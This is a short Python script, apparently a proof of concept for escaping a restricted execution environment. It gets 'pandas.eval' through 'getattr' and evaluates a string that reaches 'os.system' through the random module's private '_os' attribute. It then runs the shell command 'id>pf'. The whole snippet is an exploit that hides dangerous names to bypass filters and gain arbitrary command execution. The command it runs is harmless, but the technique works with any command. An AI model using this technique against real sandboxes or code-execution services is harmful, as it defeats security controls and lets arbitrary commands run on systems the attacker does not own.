import pandas as pd
import random
f = getattr(pd, "eval")
f("r._os.system('id>pf')", local_dict={"r": random})
